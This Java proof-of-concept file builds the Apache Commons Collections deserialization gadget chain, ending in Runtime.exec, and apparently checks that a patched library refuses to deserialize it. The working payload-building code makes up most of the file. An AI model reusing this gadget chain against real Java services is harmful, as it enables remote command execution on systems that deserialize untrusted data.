// A map whose key, once read back, asks the package's transformers for a value; they call what the data names.
import java.io.*;
import java.util.*;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.functors.*;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

public class Poc {
    private static final String ALLOWED = "org.apache.commons.collections.enableUnsafeSerialization";

    static byte[] data(String program) throws Exception {
        // The fixed version writes no such data unless told to; only reading is tried here.
        System.setProperty(ALLOWED, "true");
        Transformer chain = new ChainedTransformer(new Transformer[] {
            new ConstantTransformer(Runtime.class),
            new InvokerTransformer("getMethod", new Class[] {String.class, Class[].class}, new Object[] {"getRuntime", new Class[0]}),
            new InvokerTransformer("invoke", new Class[] {Object.class, Object[].class}, new Object[] {null, new Object[0]}),
            new InvokerTransformer("exec", new Class[] {String.class}, new Object[] {program}),
            new InvokerTransformer("waitFor", new Class[0], new Object[0]),
        });
        Map<Object, Object> inner = new HashMap<>();
        // Harmless while the key is put in, so that nothing happens before the data is read back.
        inner.put("key", "value");
        Map<Object, Object> outer = new HashMap<>();
        outer.put(new TiedMapEntry(LazyMap.decorate(inner, chain), "key"), "value");
        inner.clear();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        new ObjectOutputStream(bytes).writeObject(outer);
        System.clearProperty(ALLOWED);
        return bytes.toByteArray();
    }

    public static void main(String[] none) throws Exception {
        byte[] data = data(System.getenv("PROOF_CANARY_EXEC"));
        try {
            new ObjectInputStream(new ByteArrayInputStream(data)).readObject();
        } catch (UnsupportedOperationException refused) {
            System.out.println("refused");
        }
    }
}
